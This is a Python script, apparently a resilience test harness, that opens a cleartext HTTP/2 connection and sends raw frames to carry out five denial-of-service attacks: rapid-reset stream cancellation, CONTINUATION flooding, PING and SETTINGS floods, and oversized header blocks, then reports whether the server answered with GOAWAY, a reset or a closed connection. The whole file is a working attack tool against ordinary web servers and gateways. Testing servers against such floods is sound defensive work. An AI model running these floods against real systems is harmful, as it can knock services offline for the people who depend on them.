"""HTTP/2 abuse against a cleartext HTTP/2 (prior knowledge) listener, with raw frames.

Usage: h2_abuse.py HOST PORT SCENARIO
Scenarios: rapid-reset, continuation-flood, ping-flood, settings-flood, huge-headers.
Prints one JSON object: frames sent, whether a GOAWAY came back (and its error code), whether the
connection was closed, and the status of a response when one came.
"""

import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def headers_block(encoder, path, extra=()):
    return encoder.encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", "gw"), (":path", path)]
        + list(extra)
    )


class Conn:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self.buf = b""
        self.sent = 0
        self.closed = False

    def send(self, frame):
        if self.closed:
            return False
        try:
            self.sock.sendall(frame.serialize())
            self.sent += 1
            return True
        except OSError:
            self.closed = True
            return False

    def frames(self, seconds):
        """Reads frames for up to `seconds` (less when the peer closes)."""
        out = []
        end = time.time() + seconds
        self.sock.settimeout(0.2)
        while time.time() < end:
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.buf += data
            while len(self.buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buf[9 : 9 + length]))
                self.buf = self.buf[9 + length :]
                out.append(frame)
        return out


def run(host, port, scenario):
    c = Conn(host, port)
    enc = hpack.Encoder()
    status = None
    if scenario == "rapid-reset":
        for i in range(20000):
            sid = 1 + 2 * i
            if not c.send(HeadersFrame(sid, headers_block(enc, "/r"), flags=["END_HEADERS", "END_STREAM"])):
                break
            if not c.send(RstStreamFrame(sid, error_code=CANCEL)):
                break
    elif scenario == "continuation-flood":
        first = headers_block(enc, "/c")
        c.send(HeadersFrame(1, first, flags=["END_STREAM"]))
        for i in range(100000):
            block = enc.encode([("x-flood-%d" % i, "v" * 100)])
            if not c.send(ContinuationFrame(1, block)):
                break
    elif scenario == "ping-flood":
        for i in range(200000):
            if not c.send(PingFrame(0, opaque_data=i.to_bytes(8, "big"))):
                break
    elif scenario == "settings-flood":
        for i in range(200000):
            if not c.send(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100 + i % 7})):
                break
    elif scenario == "huge-headers":
        block = headers_block(enc, "/h", [("x-big-%d" % i, "v" * 1000) for i in range(200)])
        chunks = [block[i : i + 16000] for i in range(0, len(block), 16000)]
        c.send(HeadersFrame(1, chunks[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(chunks) == 1 else [])))
        for j, chunk in enumerate(chunks[1:]):
            last = j == len(chunks) - 2
            c.send(ContinuationFrame(1, chunk, flags=["END_HEADERS"] if last else []))
    else:
        raise SystemExit("unknown scenario " + scenario)
    goaway = None
    reset = False
    for f in c.frames(5):
        if isinstance(f, GoAwayFrame):
            goaway = f.error_code
        elif isinstance(f, RstStreamFrame) and f.stream_id == 1:
            reset = True
        elif isinstance(f, HeadersFrame) and f.stream_id == 1:
            for k, v in hpack.Decoder().decode(f.data):
                if k in (":status", b":status"):
                    status = int(v)
    print(json.dumps({"sent": c.sent, "goaway": goaway, "closed": c.closed, "reset": reset, "status": status}))


if __name__ == "__main__":
    run(sys.argv[1], int(sys.argv[2]), sys.argv[3])
